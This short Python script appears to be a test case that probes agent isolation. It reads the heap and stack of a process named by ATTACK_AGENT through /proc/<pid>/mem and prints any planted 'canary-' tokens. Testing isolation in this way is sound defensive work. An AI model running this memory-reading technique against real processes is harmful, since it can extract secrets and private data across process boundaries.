# Reads the memory of the agent.
# evidence: read
# bare: works

import os
import re
from pathlib import Path

agent = os.environ["ATTACK_AGENT"]
with open(f"/proc/{agent}/mem", "rb", 0) as memory:
    for line in Path(f"/proc/{agent}/maps").read_text().splitlines():
        if "[heap]" in line or "[stack]" in line:
            first, last = (int(each, 16) for each in line.split()[0].split("-"))
            memory.seek(first)
            print(re.findall(rb"canary-[0-9a-f]+", memory.read(last - first)))
